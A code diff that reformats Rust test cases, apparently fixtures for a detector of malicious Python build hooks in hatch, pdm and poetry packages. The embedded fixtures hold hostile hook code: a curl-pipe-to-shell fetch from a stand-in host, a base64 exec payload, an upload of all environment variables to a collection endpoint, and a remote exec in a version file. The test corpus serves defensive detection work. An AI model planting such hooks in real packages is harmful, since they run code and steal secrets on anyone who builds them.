@@ -116,7 +116,12 @@ version = "«version»"
 fn hooks(cases: &mut Cases) {
     cases
         .technique(12, "build-hook", Build)
-        .case("hatch", sdist().file("pyproject.toml", r#"
+        .case(
+            "hatch",
+            sdist()
+                .file(
+                    "pyproject.toml",
+                    r#"
 [build-system]
 requires = ["hatchling"]
 build-backend = "hatchling.build"
@@ -127,7 +132,11 @@ version = "«version»"
 
 [tool.hatch.build.hooks.custom]
 path = "hatch_build.py"
-"#).file("hatch_build.py", r#"
+"#,
+                )
+                .file(
+                    "hatch_build.py",
+                    r#"
 import subprocess
 from hatchling.builders.hooks.plugin.interface import BuildHookInterface
 
@@ -135,8 +144,15 @@ from hatchling.builders.hooks.plugin.interface import BuildHookInterface
 class CustomBuildHook(BuildHookInterface):
     def initialize(self, version, build_data):
         subprocess.run("curl -sSL https://stage.example.invalid/h | sh", shell=True)
-"#))
-        .case("pdm", sdist().file("pyproject.toml", r#"
+"#,
+                ),
+        )
+        .case(
+            "pdm",
+            sdist()
+                .file(
+                    "pyproject.toml",
+                    r#"
 [build-system]
 requires = ["pdm-backend"]
 build-backend = "pdm.backend"
@@ -147,12 +163,23 @@ version = "«version»"
 
 [tool.pdm.build]
 custom-hook = "pdm_build.py"
-"#).file("pdm_build.py", r#"
+"#,
+                )
+                .file(
+                    "pdm_build.py",
+                    r#"
 def pdm_build_initialize(context):
     import base64
     exec(base64.b64decode(b"«fetch|b64»"))
-"#))
-        .case("poetry", sdist().file("pyproject.toml", r#"
+"#,
+                ),
+        )
+        .case(
+            "poetry",
+            sdist()
+                .file(
+                    "pyproject.toml",
+                    r#"
 [build-system]
 requires = ["poetry-core"]
 build-backend = "poetry.core.masonry.api"
@@ -165,15 +192,26 @@ authors = []
 
 [tool.poetry.build]
 script = "build.py"
-"#).file("build.py", r#"
+"#,
+                )
+                .file(
+                    "build.py",
+                    r#"
 import os, requests
 def build(setup_kwargs):
     requests.post("https://collect.example.invalid/v1", json={"e": dict(os.environ)})
     setup_kwargs.update({})
 if __name__ == "__main__":
     build({})
-"#))
-        .case("hatch-metadata", sdist().file("pyproject.toml", r#"
+"#,
+                ),
+        )
+        .case(
+            "hatch-metadata",
+            sdist()
+                .file(
+                    "pyproject.toml",
+                    r#"
 [build-system]
 requires = ["hatchling"]
 build-backend = "hatchling.build"
@@ -185,11 +223,17 @@ dynamic = ["version"]
 [tool.hatch.version]
 source = "code"
 path = "tools/version_info.py"
-"#).file("tools/version_info.py", r#"
+"#,
+                )
+                .file(
+                    "tools/version_info.py",
+                    r#"
 import urllib.request as q
 exec(q.urlopen("http://192.0.2.19/v").read())
 __version__ = "«version»"
-"#));
+"#,
+                ),
+        );
 }
 
 fn configuration(cases: &mut Cases) {
